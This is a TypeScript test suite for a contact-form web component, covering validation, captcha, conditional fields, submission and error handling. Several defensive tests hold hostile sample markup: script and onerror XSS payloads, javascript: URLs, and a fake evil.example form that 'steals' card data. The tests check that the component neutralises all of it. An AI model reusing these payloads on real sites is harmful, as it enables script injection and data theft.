/**
 * <pb-contact-form> (SPEC.md §4 "Contact form", §5 "Contact form" and "Conditional logic",
 * §7 "Contact form submit", §8, §9 "captcha operands 1 to 15", "conditional logic keydown 250 ms").
 */
import { expect } from 'chai';
import { setViewport } from '@web/test-runner-commands';
import axe from 'axe-core';
import '../../elements/pb-contact-form';
import { resetPageConfig } from '../../react-core/runtime/page-config';
import type { FormSubmitDetail } from '../../react-core/forms/submit-event';
import { CONTACT_FORM_CRITICAL_CSS } from '../../react-core/contact-form/critical-css';
import { captureConsole, cleanupFixtures, fixture, isShownOnScreen, loadingIndicatorIn, upgraded, wait, waitFor } from './helpers';

const FORM = `
  <pb-contact-form id="contact" timeout="400">
    <form action="/contact/submit" method="post">
      <p data-field="name"><label for="c-name">Name *</label><input id="c-name" name="name" required></p>
      <p data-field="email"><label for="c-email">Email</label><input id="c-email" name="email" type="email" required></p>
      <fieldset data-field="kind" data-required>
        <legend>I write as</legend>
        <label><input type="radio" name="kind" value="person"> a person</label>
        <label><input type="radio" name="kind" value="business"> a business</label>
      </fieldset>
      <p data-field="company" data-conditions='[["kind","is","business"]]'>
        <label for="c-company">Company</label><input id="c-company" name="company" required>
      </p>
      <fieldset data-field="topics" data-required>
        <legend></legend>
        <label><input type="checkbox" name="topics[]" value="support"> Support</label>
        <label><input type="checkbox" name="topics[]" value="sales"> Sales</label>
      </fieldset>
      <p data-field="message"><label for="c-message">Message</label><textarea id="c-message" name="message"></textarea></p>
      <p data-captcha>
        <label for="c-captcha"><span data-captcha-first>3</span> + <span data-captcha-second>4</span> =</label>
        <input id="c-captcha" name="pb_captcha" inputmode="numeric">
        <input type="hidden" name="pb_captcha_first" value="3">
        <input type="hidden" name="pb_captcha_second" value="4">
      </p>
      <input type="hidden" name="token" value="pb-demo-contact-token">
      <button type="submit">Send</button>
    </form>
  </pb-contact-form>`;

interface FetchCall {
  url: string;
  body: URLSearchParams;
  headers: Headers;
}

const realFetch = window.fetch;
let calls: FetchCall[] = [];

/** Replaces fetch; `respond` decides each answer (a Response, or a throw for network failure). */
function stubFetch(respond: (call: FetchCall, signal: AbortSignal | undefined) => Promise<Response> | Response): void {
  calls = [];
  window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {
    const call = { url: String(input), body: new URLSearchParams(String(init?.body ?? '')), headers: new Headers(init?.headers) };
    calls.push(call);
    return respond(call, init?.signal ?? undefined);
  };
}

function html(status: number, body: string): Response {
  return new Response(body, { status, headers: { 'Content-Type': 'text/html; charset=utf-8' } });
}

const SUCCESS = '<div id="contact" class="pb-contact-result"><p role="status">Thanks for contacting us!</p></div>';

async function mount(markup = FORM): Promise<HTMLElement> {
  const element = fixture<HTMLElement>(markup);
  await upgraded(element);
  return element;
}

function input(element: HTMLElement, name: string): HTMLInputElement {
  return element.querySelector<HTMLInputElement>(`[name="${name}"]`)!;
}

function fillValid(element: HTMLElement): void {
  input(element, 'name').value = 'Ann';
  input(element, 'email').value = 'ann@example.com';
  element.querySelector<HTMLInputElement>('[name=kind][value=person]')!.click();
  element.querySelector<HTMLInputElement>('[name="topics[]"][value=sales]')!.click();
  element.querySelector<HTMLTextAreaElement>('[name=message]')!.value = 'Hello there';
  const first = Number(input(element, 'pb_captcha_first').value);
  const second = Number(input(element, 'pb_captcha_second').value);
  input(element, 'pb_captcha').value = String(first + second);
}

function submit(element: HTMLElement): void {
  element.querySelector('form')!.requestSubmit();
}

function region(element: HTMLElement): HTMLElement {
  return element.querySelector<HTMLElement>('[data-pb-message]')!;
}

function nextSubmit(element: HTMLElement): Promise<FormSubmitDetail> {
  return new Promise((resolve) => element.addEventListener('pb-submit', (event) => resolve(event.detail), { once: true }));
}

describe('pb-contact-form', () => {
  afterEach(() => {
    window.fetch = realFetch;
    cleanupFixtures();
  });

  describe('SPEC §5 required fields', () => {
    it('marks empty required fields (a radio/checkbox group with none chosen is empty) and lists their labels with the fill message', async () => {
      const element = await mount();
      stubFetch(() => html(200, SUCCESS));
      const result = nextSubmit(element);
      submit(element);
      const detail = await result;
      expect(detail.status).to.equal('invalid');
      expect(calls.length).to.equal(0);
      const message = region(element);
      expect(message.hidden).to.equal(false);
      expect(message.getAttribute('role')).to.equal('alert');
      expect(message.querySelector('p')!.textContent).to.equal('Please, fill in the following fields:');
      // The topics legend is empty: the checkbox fallback label is used.
      expect([...message.querySelectorAll('li')].map((item) => item.textContent)).to.deep.equal(['Name', 'Email', 'I write as', 'Checkbox']);
      const name = input(element, 'name');
      expect(name.getAttribute('aria-invalid')).to.equal('true');
      expect(name.getAttribute('aria-describedby')).to.equal(message.id);
      expect(name.closest('[data-field]')!.classList.contains('pb-field-error')).to.equal(true);
      expect(element.querySelector('[data-field=kind]')!.classList.contains('pb-field-error')).to.equal(true);
      expect(document.activeElement === name).to.equal(true);
    });

    it("posts to the form's action even when a field is named \"action\" (WordPress's admin-post.php pattern)", async () => {
      const element = await mount(
        FORM.replace('<form action="/contact/submit" method="post">', '<form action="/wp-admin/admin-post.php?action=pb_contact_form" method="post"><input type="hidden" name="action" value="pb_contact_form">'),
      );
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      submit(element);
      await waitFor(() => calls.length === 1, 'the request');
      expect(calls[0]!.url).to.equal(new URL('/wp-admin/admin-post.php?action=pb_contact_form', location.href).href);
      expect(calls[0]!.body.get('action')).to.equal('pb_contact_form');
    });

    it('clears the marks once the field is filled', async () => {
      const element = await mount();
      submit(element);
      await waitFor(() => input(element, 'name').hasAttribute('aria-invalid'));
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      submit(element);
      await waitFor(() => calls.length === 1, 'the request');
      expect(input(element, 'name')?.hasAttribute('aria-invalid') ?? false).to.equal(false);
    });
  });

  describe('SPEC §8 messages and accessibility', () => {
    afterEach(() => {
      document.getElementById('pb-config')?.remove();
      resetPageConfig();
    });

    it('uses the localized message set from the page configuration', async () => {
      const config = document.createElement('script');
      config.type = 'application/json';
      config.id = 'pb-config';
      config.textContent = JSON.stringify({ messages: { fillRequired: 'Bitte ausfüllen:', wrongCheckboxLabel: 'Kästchen' } });
      document.head.append(config);
      resetPageConfig();
      const element = await mount();
      const result = nextSubmit(element);
      submit(element);
      await result;
      expect(region(element).querySelector('p')!.textContent).to.equal('Bitte ausfüllen:');
      expect(region(element).textContent).to.contain('Kästchen');
    });

    it('axe-core finds nothing, initially and with errors shown', async () => {
      const element = await mount();
      let results = await axe.run(element);
      expect(results.violations.map((violation) => violation.id)).to.deep.equal([]);
      const result = nextSubmit(element);
      submit(element);
      await result;
      results = await axe.run(element);
      expect(results.violations.map((violation) => violation.id)).to.deep.equal([]);
    });
  });

  describe('SPEC §5 email rules', () => {
    it('shows the invalid-email message for an address with consecutive dots in the domain', async () => {
      const element = await mount();
      fillValid(element);
      input(element, 'email').value = 'ann@example..com';
      const result = nextSubmit(element);
      submit(element);
      expect((await result).errors!.invalidEmailLabels).to.deep.equal(['Email']);
      expect(region(element).textContent).to.contain('Invalid email');
      expect(input(element, 'email').getAttribute('aria-invalid')).to.equal('true');
      expect(document.activeElement === input(element, 'email')).to.equal(true);
    });
  });

  describe('SPEC §5 captcha', () => {
    it('on a wrong sum shows the wrong-captcha message, draws new operands from 1 to 15 and clears the field', async () => {
      const element = await mount();
      fillValid(element);
      input(element, 'pb_captcha').value = '99';
      const result = nextSubmit(element);
      submit(element);
      expect((await result).errors!.captchaWrong).to.equal(true);
      expect(region(element).textContent).to.contain('You entered the wrong number in captcha.');
      expect(input(element, 'pb_captcha').value).to.equal('');
      const first = Number(input(element, 'pb_captcha_first').value);
      const second = Number(input(element, 'pb_captcha_second').value);
      expect(first >= 1 && first <= 15 && second >= 1 && second <= 15).to.equal(true);
      expect(element.querySelector('[data-captcha-first]')!.textContent).to.equal(String(first));
      expect(element.querySelector('[data-captcha-second]')!.textContent).to.equal(String(second));
      expect(document.activeElement === input(element, 'pb_captcha')).to.equal(true);
    });
  });

  describe('SPEC §5 conditional logic', () => {
    it('hides a field whose rules fail (hidden + disabled) and shows it on change', async () => {
      const element = await mount();
      const company = element.querySelector<HTMLElement>('[data-field=company]')!;
      expect(company.hidden).to.equal(true);
      expect(input(element, 'company').disabled).to.equal(true);
      element.querySelector<HTMLInputElement>('[name=kind][value=business]')!.click();
      await waitFor(() => !company.hidden, 'the company field to show');
      expect(input(element, 'company').disabled).to.equal(false);
    });

    it('re-evaluates on keydown only after the 250 ms debounce', async () => {
      const element = await mount(`
        <pb-contact-form>
          <form action="/contact/submit">
            <p data-field="age"><label for="k-age">Age</label><input id="k-age" name="age"></p>
            <p data-field="guardian" data-conditions='[["age","is less","18"]]'>
              <label for="k-g">Guardian</label><input id="k-g" name="guardian">
            </p>
          </form>
        </pb-contact-form>`);
      const guardian = element.querySelector<HTMLElement>('[data-field=guardian]')!;
      expect(guardian.hidden).to.equal(true);
      const age = input(element, 'age');
      age.value = '12';
      age.dispatchEvent(new KeyboardEvent('keydown', { key: '2', bubbles: true }));
      await wait(100);
      expect(guardian.hidden).to.equal(true);
      await waitFor(() => !guardian.hidden, 'the debounced re-evaluation');
    });

    it('relation any shows the field when one rule holds; all needs every rule', async () => {
      const element = await mount(`
        <pb-contact-form>
          <form action="/contact/submit">
            <p><label for="r-a">A</label><input id="r-a" name="a" value="x"></p>
            <p><label for="r-b">B</label><input id="r-b" name="b" value=""></p>
            <p data-field="any" data-condition-relation="any" data-conditions='[["a","is","x"],["b","is not empty",""]]'><label for="r-any">Any</label><input id="r-any" name="any"></p>
            <p data-field="all" data-conditions='[["a","is","x"],["b","is not empty",""]]'><label for="r-all">All</label><input id="r-all" name="all"></p>
          </form>
        </pb-contact-form>`);
      expect(element.querySelector<HTMLElement>('[data-field=any]')!.hidden).to.equal(false);
      expect(element.querySelector<HTMLElement>('[data-field=all]')!.hidden).to.equal(true);
    });

    it('malformed rule JSON warns once naming the tag and attribute, and the field is shown', async () => {
      let element!: HTMLElement;
      const { warnings } = await captureConsole(async () => {
        element = await mount(`
          <pb-contact-form>
            <form action="/contact/submit">
              <p data-field="odd" data-conditions='[["a","is"'><label for="m-odd">Odd</label><input id="m-odd" name="odd"></p>
            </form>
          </pb-contact-form>`);
      });
      expect(warnings.some((text) => text.includes('[pb-contact-form]') && text.includes('data-conditions'))).to.equal(true);
      expect(element.querySelector<HTMLElement>('[data-field=odd]')!.hidden).to.equal(false);
    });

    it('skips hidden required fields and reports them in et_pb_contact_email_hidden_fields', async () => {
      const element = await mount();
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      submit(element);
      await waitFor(() => calls.length === 1, 'the request');
      const { body } = calls[0]!;
      expect(JSON.parse(body.get('et_pb_contact_email_hidden_fields')!)).to.deep.equal(['company']);
      expect(body.has('company')).to.equal(false);
      const descriptors = JSON.parse(body.get('et_pb_contact_email_fields')!) as { field_id: string; required_mark: string; field_type: string; field_label: string }[];
      expect(descriptors.map((field) => field.field_id)).to.deep.equal(['name', 'email', 'kind', 'company', 'topics', 'message']);
      expect(descriptors[1]).to.deep.include({ field_type: 'email', required_mark: 'required', field_label: 'Email' });
      expect(descriptors[5]).to.deep.include({ field_type: 'text', required_mark: 'not_required' });
    });
  });

  describe('SPEC §7 submission', () => {
    it('posts the serialized fields, token, field list and fragment header to the form action', async () => {
      const element = await mount();
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      submit(element);
      await waitFor(() => calls.length === 1, 'the request');
      const { url, body, headers } = calls[0]!;
      expect(new URL(url).pathname).to.equal('/contact/submit');
      expect(headers.get('X-PB-Fragment')).to.equal('1');
      expect(body.get('name')).to.equal('Ann');
      expect(body.getAll('topics[]')).to.deep.equal(['sales']);
      expect(body.get('token')).to.equal('pb-demo-contact-token');
      expect(body.get('pb_contact_form')).to.equal('contact');
      expect(body.get('pb_captcha')).to.equal('7');
    });

    it('a flag blocks resubmission while a request is in flight (button aria-disabled, form aria-busy)', async () => {
      const element = await mount();
      let release!: () => void;
      stubFetch(() => new Promise<Response>((resolve) => (release = () => resolve(html(200, SUCCESS)))));
      fillValid(element);
      submit(element);
      await waitFor(() => calls.length === 1, 'the request');
      const form = element.querySelector('form')!;
      expect(form.getAttribute('aria-busy')).to.equal('true');
      expect(element.querySelector('button')!.getAttribute('aria-disabled')).to.equal('true');
      submit(element);
      submit(element);
      await wait(50);
      expect(calls.length).to.equal(1);
      release();
      await waitFor(() => element.querySelector('.pb-contact-result, [role=status]') !== null || !element.querySelector('form'), 'the result');
    });

    it('while the request is out, the clicked submit button shows the visible loading indicator; it goes when the answer arrives', async () => {
      const element = await mount();
      let release!: () => void;
      stubFetch(() => new Promise<Response>((resolve) => (release = () => resolve(html(500, 'Server error')))));
      fillValid(element);
      const button = element.querySelector('button')!;
      button.click();
      await waitFor(() => calls.length === 1, 'the request');
      const indicator = loadingIndicatorIn(button);
      expect(indicator, 'an indicator in the button').to.not.equal(null);
      expect(isShownOnScreen(indicator!), 'the indicator is visible').to.equal(true);
      expect(button.getAttribute('aria-busy')).to.equal('true');
      expect(button.textContent!.trim(), 'the label stays').to.equal('Send');
      const done = nextSubmit(element);
      release();
      await done;
      expect(loadingIndicatorIn(element)).to.equal(null);
      expect(button.hasAttribute('aria-busy')).to.equal(false);
    });

    it('the returned fragment replaces the container content and takes focus; pb-submit success', async () => {
      const element = await mount();
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      const detail = await result;
      expect(detail.status).to.equal('success');
      expect(element.querySelector('form') === null).to.equal(true);
      const status = element.querySelector('[role=status]')!;
      expect(status.textContent).to.equal('Thanks for contacting us!');
      expect(document.activeElement === status).to.equal(true);
    });

    it('scripts in the returned fragment are removed, never run', async () => {
      const element = await mount();
      stubFetch(() =>
        html(200, '<div id="contact"><p>Done</p><script>window.__pwned = true</script><img alt="" src="data:," onerror="window.__pwned = true"><a href="javascript:window.__pwned = true">x</a></div>'),
      );
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      await result;
      await wait(100);
      expect(element.querySelector('script') === null).to.equal(true);
      expect(element.querySelector('[onerror]') === null).to.equal(true);
      expect(element.querySelector('a')!.hasAttribute('href')).to.equal(false);
      expect((window as unknown as { __pwned?: boolean }).__pwned === true).to.equal(false);
    });

    it('SPEC §7 (untrusted markup): the result keeps no image, no style url() and no form or button of the answer; nothing is requested from another site', async () => {
      const element = await mount();
      stubFetch(() =>
        html(
          200,
          '<div id="contact"><p role="status">Thanks</p><img alt="" src="https://evil.example/pixel.png">' +
            '<p style="background:url(https://evil.example/style.png)">styled</p>' +
            '<form action="https://evil.example/steal" id="evil-form"><input name="card"><button id="evil-button">Continue</button></form></div>',
        ),
      );
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      expect((await result).status).to.equal('success');
      await wait(200);
      expect(element.querySelector('[role=status]')!.textContent).to.equal('Thanks');
      expect(element.querySelectorAll('img, form, input, button, [style]')).to.have.length(0);
      expect(performance.getEntriesByType('resource').filter((entry) => entry.name.includes('evil.example'))).to.have.length(0);
    });

    it('SPEC §7 (untrusted markup): an error answer shows its text only, and the element keeps its own form with the typed values', async () => {
      const element = await mount();
      stubFetch(() =>
        html(
          400,
          '<div id="contact"><p>Server says no</p><form action="https://evil.example/steal" id="evil-form"><button id="evil-button">Retry here</button></form>' +
            '<img alt="" src="https://evil.example/error.png"></div>',
        ),
      );
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      await result;
      await wait(200);
      expect(region(element).textContent).to.equal('Server says no');
      expect(element.querySelectorAll('form')).to.have.length(1);
      expect(element.querySelector('#evil-form, #evil-button, img')).to.equal(null);
      expect(input(element, 'name').value).to.equal('Ann');
      expect(performance.getEntriesByType('resource').filter((entry) => entry.name.includes('evil.example'))).to.have.length(0);
    });

    it('redirects only to http(s) URLs (pb-submit carries it and is cancelable)', async () => {
      const element = await mount(FORM.replace('timeout="400"', 'timeout="400" redirect-url="/thanks.html"'));
      element.addEventListener('pb-submit', (event) => event.preventDefault());
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      expect((await result).redirectUrl).to.equal(new URL('/thanks.html', location.href).href);
    });

    it('ignores a javascript: redirect-url with a warning', async () => {
      let element!: HTMLElement;
      const { warnings } = await captureConsole(async () => {
        element = await mount(FORM.replace('timeout="400"', 'timeout="400" redirect-url="javascript:alert(1)"'));
        await wait(20);
      });
      expect(warnings.some((text) => text.includes('redirect-url'))).to.equal(true);
      stubFetch(() => html(200, SUCCESS));
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      const detail = await result;
      expect(detail.status).to.equal('success');
      expect(detail.redirectUrl === undefined).to.equal(true);
    });

    it('SPEC §8: an error response (400 HTML) shows the matching container from the error page, keeping the typed values', async () => {
      const element = await mount();
      stubFetch(() =>
        html(400, '<!doctype html><main><div id="other"><p>Wrong</p></div><div id="contact" class="pb-contact-result--error"><p>Server says no</p></div></main>'),
      );
      fillValid(element);
      const result = nextSubmit(element);
      submit(element);
      const detail = await result;
      expect(detail.status).to.equal('invalid');
      expect(detail.httpStatus).to.equal(400);
      expect(region(element).textContent).to.equal('Server says no');
      expect(input(element, 'name').value).to.equal('Ann');
      expect(document.activeElement === region(element)).to.equal(true);
    });
  });

  describe('nothing typed is lost', () => {
    const failures: [string, () => Promise<Response> | Response, string][] = [
      ['network failure', () => Promise.reject(new TypeError('Failed to fetch')), 'network'],
      ['500 answer', () => html(500, '<p>oops</p>'), 'server'],
      // Not "Please, fix the following errors:" with nothing listed: no error was explained.
      ['404 page without the result container', () => html(404, '<!doctype html><title>Not found</title><h1>Page not found</h1>'), 'server'],
      ['403 in plain text', () => new Response('Forbidden', { status: 403, headers: { 'Content-Type': 'text/plain' } }), 'server'],
      ['200 page without the result container (a proxy\'s)', () => html(200, '<!doctype html><h1>Please log in</h1>'), 'unconfirmed'],
      ['empty 200', () => html(200, ''), 'unconfirmed'],
      ['malformed 200 (JSON)', () => new Response('{"ok":', { status: 200, headers: { 'Content-Type': 'application/json' } }), 'unconfirmed'],
    ];
    for (const [name, respond, reason] of failures) {
      it(`${name}: values stay, a clear message shows, a retry works`, async () => {
        const element = await mount();
        stubFetch(respond);
        fillValid(element);
        const failed = nextSubmit(element);
        submit(element);
        const detail = await failed;
        expect(detail.status).to.equal('error');
        expect(detail.reason).to.equal(reason);
        expect(region(element).textContent).to.equal('Your message could not be sent. Please check your connection and try again.');
        expect(document.activeElement === region(element)).to.equal(true);
        expect(input(element, 'name').value).to.equal('Ann');
        expect(element.querySelector<HTMLTextAreaElement>('[name=message]')!.value).to.equal('Hello there');
        expect(element.querySelector('button')!.hasAttribute('aria-disabled')).to.equal(false);
        stubFetch(() => html(200, SUCCESS));
        const retried = nextSubmit(element);
        submit(element);
        expect((await retried).status).to.equal('success');
      });
    }

    it('timeout (attribute timeout, AbortController): values stay and a retry works', async () => {
      const element = await mount();
      let aborted = false;
      stubFetch((_call, signal) =>
        new Promise<Response>((_resolve, reject) => {
          signal?.addEventListener('abort', () => {
            aborted = true;
            reject(new DOMException('aborted', 'AbortError'));
          });
        }),
      );
      fillValid(element);
      const failed = nextSubmit(element);
      submit(element);
      const detail = await failed;
      expect(detail.reason).to.equal('timeout');
      expect(aborted).to.equal(true);
      expect(input(element, 'email').value).to.equal('ann@example.com');
      stubFetch(() => html(200, SUCCESS));
      const retried = nextSubmit(element);
      submit(element);
      expect((await retried).status).to.equal('success');
    });
  });

  describe('upgrade layout (CLS 0)', () => {
    afterEach(() => setViewport({ width: 1280, height: 800 }));
    for (const [name, viewport] of [
      ['desktop', { width: 1280, height: 800 }],
      ['phone', { width: 375, height: 740 }],
    ] as const) {
      it(`keeps the box of the form before and after the upgrade (${name})`, async () => {
        await setViewport(viewport);
        const style = document.createElement('style');
        style.textContent = CONTACT_FORM_CRITICAL_CSS;
        document.head.append(style);
        try {
          const markup = FORM.replace(/pb-contact-form/g, 'pb-contact-form-static');
          const staticElement = fixture<HTMLElement>(`<div>${markup}</div>`).firstElementChild as HTMLElement;
          staticElement.style.display = 'block';
          staticElement.querySelector<HTMLElement>('[data-conditions]')!.style.display = 'none';
          const before = staticElement.getBoundingClientRect();
          const element = fixture<HTMLElement>(`<div>${FORM}</div>`).firstElementChild as HTMLElement;
          const reserved = element.getBoundingClientRect();
          await upgraded(element);
          const after = element.getBoundingClientRect();
          expect(Math.abs(reserved.height - before.height) < 1 && Math.abs(reserved.width - before.width) < 1).to.equal(true);
          expect(Math.abs(after.height - reserved.height) < 1 && Math.abs(after.width - reserved.width) < 1).to.equal(true);
        } finally {
          style.remove();
        }
      });
    }
  });
});
